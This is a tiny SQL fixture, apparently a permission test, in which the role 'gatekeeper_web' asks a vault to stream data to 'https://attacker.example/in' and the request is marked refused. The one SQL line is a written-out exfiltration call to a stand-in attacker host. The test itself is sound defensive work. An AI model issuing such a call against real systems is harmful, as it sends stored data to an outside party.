-- As: gatekeeper_web
-- Wants: a stream of the pages' own.
-- Verdict: refused
SELECT vault.begin_stream('https://attacker.example/in', 'attack');
